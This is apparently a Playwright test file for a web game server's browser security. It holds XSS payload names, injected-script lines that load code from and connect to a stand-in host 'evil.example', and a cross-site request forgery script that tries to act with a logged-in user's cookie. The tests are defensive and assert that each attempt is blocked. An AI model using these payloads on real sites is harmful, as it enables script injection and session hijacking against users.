"""In a real browser: names that are scripts, scripts that were not ours, and pages of other sites."""

from __future__ import annotations

from typing import Any

import httpx
import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import Arrive
from tests.support.live_server import PATIENCE, Server

NAMES = [
    "<script>hit()</script>",
    "<img src onerror=hit()>",
    '"autofocus onfocus=hit()',
    "${hit()}{{hit()}}",
    "</title><b>x</b>",
]
ASK = """async ([method, path, body]) => {
    const headers = { "Content-Type": "application/json" }
    const answer = await fetch(path, { method, headers, body: body && JSON.stringify(body) })
    return [answer.status, await answer.json()]
}"""
VIOLATION = """() => new Promise(done => {
    document.addEventListener("securitypolicyviolation", e => done(e.effectiveDirective), { once: true })
    setTimeout(() => done("nothing"), 60000)
    %s
})"""
"""Does something, and tells which part of the policy is against it."""
SCRIPT = "const s = document.createElement('script'); s.%s; document.body.append(s)"
FRAME = "const f = document.createElement('iframe'); f.src = 'https://evil.example'; document.body.append(f)"
BASE = "const b = document.createElement('base'); b.href = 'https://evil.example'; document.head.append(b)"


ATTACK = """async ([here, id]) => {
    const simple = { method: "POST", mode: "no-cors", credentials: "include" }
    await fetch(here + "/api/guests", { ...simple, body: '{"name": "Mallory"}' }).catch(() => 0)
    const resign = { ...simple, body: '{"kind": "resign", "after": 0}' }
    await fetch(`${here}/api/tables/${id}/actions`, resign).catch(() => 0)
    const me = fetch(here + "/api/guests/me", { credentials: "include" })
    const read = await me.then(() => "read", () => "not read")
    const socket = new WebSocket(`${here.replace("http", "ws")}/api/tables/${id}/live?after=0`)
    const opened = await new Promise(done => {
        socket.onopen = () => done("opened")
        socket.onclose = () => done("not opened")
    })
    const frame = document.createElement("iframe")
    frame.src = here
    await new Promise(done => {
        frame.onload = done
        document.body.append(frame)
    })
    return [read, opened]
}"""
"""What a page of another site tries, with all that a browser lets it."""


def asked(page: Page, method: str, path: str, body: Any = None) -> Any:
    """What the server answers to the page."""
    status, answer = page.evaluate(ASK, [method, path, body])
    assert status < 300, answer
    return answer


def arm(page: Page) -> None:
    """From now on it shows whether somebody's name was run."""
    page.context.add_init_script("window.hit = () => { window.wasHit = true }")


def test_a_name_is_text_wherever_it_is_shown(serving: Server, arrive: Arrive) -> None:
    player = arrive(serving)
    arm(player.page)
    seats = [{"me": True}, *[{"open": True}] * (len(NAMES) - 1)]
    with httpx.Client(base_url=serving.url, timeout=PATIENCE) as http:
        tokens = []
        for name in NAMES:
            guest = http.post("/api/guests", json={"name": name}).json()
            assert guest["name"] == name
            tokens.append({"Authorization": f"Bearer {guest['token']}"})
            http.cookies.clear()
        asked_for = {"rules": "muggins-1864", "seats": seats, "visibility": "open"}
        table = http.post("/api/tables", json=asked_for, headers=tokens[0]).json()
        for seat, token in enumerate(tokens[1:-1], 2):
            answer = http.post(f"/api/tables/{table['id']}/seats/{seat}", headers=token)
            assert answer.status_code == 201
        player.go("/#lobby")
        player.page.wait_for_timeout(300)
        # First while it waits for the last of them, then while it is played.
        player.go(table["url"])
        shown_as_text(player.page, NAMES[:-1])
        http.post(f"/api/tables/{table['id']}/seats/{len(NAMES)}", headers=tokens[-1])
        shown_as_text(player.page, NAMES)
        player.go(table["url"])
        shown_as_text(player.page, NAMES)
    # Nothing was even tried, or the policy would have told the console, and the console the test.
    assert player.troubles == []


def shown_as_text(page: Page, names: list[str]) -> None:
    for name in names:
        expect(page.get_by_text(name, exact=False).first).to_be_visible()
    assert page.evaluate("window.wasHit") is None
    assert page.locator("b", has_text="x").count() == 0


@pytest.mark.parametrize(
    ("attempt", "directive"),
    [
        (SCRIPT % "textContent = 'hit()'", "script"),
        (SCRIPT % "src = 'https://evil.example/x.js'", "script"),
        ("document.body.insertAdjacentHTML('beforeend', '<img src=x: onerror=hit()>')", "script"),
        ("document.body.insertAdjacentHTML('beforeend', '<p style=color:red>')", "style"),
        ("new Image().src = 'https://evil.example/x.png'", "img"),
        ("fetch('https://evil.example').catch(() => 0)", "connect"),
        ("try { new WebSocket('wss://evil.example') } catch {}", "connect"),
        (FRAME, "frame"),
        (BASE, "base-uri"),
        # Later, when it is no more the test that asks.
        ("setTimeout(() => { try { eval('1') } catch {} }, 50)", "script"),
    ],
)
def test_the_policy_stops_what_is_not_ours(
    attempt: str, directive: str, serving: Server, browser: Any
) -> None:
    """As if something had got into the page all the same."""
    context = browser.new_context()
    page = context.new_page()
    arm(page)
    page.goto(serving.url)
    violated = page.evaluate(VIOLATION % attempt)
    assert violated.startswith(directive)
    assert page.evaluate("window.wasHit") is None
    context.close()


def test_another_site_neither_acts_nor_frames_nor_listens(serving: Server, arrive: Arrive) -> None:
    """Its page is in the same browser, which has our cookie."""
    player = arrive(serving)
    name = asked(player.page, "POST", "/api/guests", {"name": "Ada"})["name"]
    table = asked(
        player.page, "POST", "/api/tables", {"rules": "muggins", "seats": [{"me": True}, {"bot": "greedy"}]}
    )
    evil = player.context.new_page()
    page = {"body": "<p>Win a prize!", "content_type": "text/html"}
    evil.route("http://evil.localhost/*", lambda route: route.fulfill(**page))
    evil.goto("http://evil.localhost/")
    assert evil.evaluate(ATTACK, [serving.url, table["id"]]) == ["not read", "not opened"]
    # In place of our page the frame has the browser's own, which says that it may not be shown.
    assert evil.frames[1].url.startswith("chrome-error:")
    evil.close()
    assert asked(player.page, "GET", "/api/guests/me")["name"] == name
    assert asked(player.page, "GET", f"/api/tables/{table['id']}")["result"] is None
